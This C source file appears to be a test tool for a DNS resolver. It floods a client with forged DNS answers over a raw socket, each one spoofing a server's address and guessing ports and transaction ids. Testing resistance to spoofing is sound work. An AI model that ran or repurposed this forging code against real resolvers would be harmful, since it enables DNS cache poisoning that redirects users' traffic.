/* SPDX-License-Identifier: GPL-2.0-or-later */
/* forger SERVER CLIENT FIRST-LAST NAME ADDRESS COUNT [ID]
 *
 * Sends COUNT answers "NAME has ADDRESS" that claim to come from SERVER, port 53, to CLIENT, each
 * to a port of the range and with an id that are guesses, never ID. It reads nothing. Prints how
 * many the kernel has taken. */
#include "../packet.h"
#include "../random.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <sys/socket.h>

enum { BATCH = 64, TTL_S = 3600 };

struct forgery {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t message[512];
};

static _Noreturn void fail(const char *what)
{
	fprintf(stderr, "forger: %s: %s\n", what, strerror(errno));
	exit(1);
}

static in_addr_t address(const char *text)
{
	struct in_addr a;

	errno = EINVAL;
	if (inet_pton(AF_INET, text, &a) != 1)
		fail(text);
	return a.s_addr;
}

/* All but port and id. Returns the length. */
static size_t make(char *argv[], struct forgery *ret)
{
	static struct packet p;

	packet_begin(&p, FLAGS_RECURSED, argv[4], TYPE_A);
	packet_a(&p, argv[4], ntohl(address(argv[5])), TTL_S);
	size_t len = sizeof(ret->ip) + sizeof(ret->udp) + p.len;
	/* The kernel puts the length and the sum into the IP header; without a UDP sum it is 0. */
	ret->ip = (struct iphdr){
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = address(argv[1]),
		.daddr = address(argv[2]),
	};
	ret->udp = (struct udphdr){
		.source = htons(53),
		.len = htons((uint16_t)(sizeof(ret->udp) + p.len)),
	};
	memcpy(ret->message, p.bytes, p.len);
	return len;
}

int main(int argc, char *argv[])
{
	static struct forgery forgeries[BATCH];
	struct iovec parts[BATCH];
	struct mmsghdr messages[BATCH] = {0};
	unsigned first, last;
	unsigned long sent = 0;

	if (argc < 7 || argc > 8 || sscanf(argv[3], "%u-%u", &first, &last) != 2 ||
		strlen(argv[4]) > 200)
		return 2;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || getrandom(&random_state, sizeof(random_state), 0) < 0)
		fail("socket");
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = address(argv[2])};
	for (unsigned i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){&forgeries[i], make(argv, &forgeries[i])};
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &to,
			.msg_namelen = sizeof(to),
			.msg_iov = &parts[i],
			.msg_iovlen = 1,
		};
	}
	unsigned long count = strtoul(argv[6], NULL, 10);
	uint16_t avoided = htons((uint16_t)(argc > 7 ? strtoul(argv[7], NULL, 10) : 0));
	while (sent < count) {
		for (unsigned i = 0; i < BATCH; i++) {
			uint64_t guess = random_next();
			memcpy(forgeries[i].message, &guess, 2);
			if (memcmp(forgeries[i].message, &avoided, 2) == 0)
				forgeries[i].message[0] ^= 0x80;
			forgeries[i].udp.dest =
				htons((uint16_t)(first + (guess >> 16) % (last - first + 1)));
		}
		int n = sendmmsg(fd, messages, BATCH, 0);
		if (n < 0 && errno != ENOBUFS)
			fail("sendmmsg");
		sent += n > 0 ? (unsigned long)n : 0;
	}
	printf("%lu\n", sent);
	return 0;
}
